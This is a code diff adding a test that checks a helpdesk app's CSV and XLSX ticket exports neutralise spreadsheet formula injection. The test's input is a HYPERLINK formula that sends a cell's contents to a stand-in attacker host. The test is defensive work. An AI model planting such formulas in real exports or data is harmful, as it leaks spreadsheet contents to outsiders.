@@ -187,3 +187,17 @@ def test_bulk_only_touches_tickets_the_user_may_see(desk: Desk) -> None:
     other.refresh_from_db()
     desk.ticket.refresh_from_db()
     assert other.status == "new" and desk.ticket.status == "pending_client"
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(desk: Desk) -> None:
+    """A customer's subject is data: "=HYPERLINK(...)" must not run when a supervisor opens the export."""
+    subject = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    actions.create_ticket(None, desk.tenant, subject=subject, channel="email")
+    response = desk.client.get(reverse("desk:tickets_export", args=["csv"]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert "'" + subject in [row[1] for row in rows]
+    response = desk.client.get(reverse("desk:tickets_export", args=["xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    evil = next(c for c in cells if c.value == subject)  # the text itself, as a string cell
+    assert evil.data_type == "s"
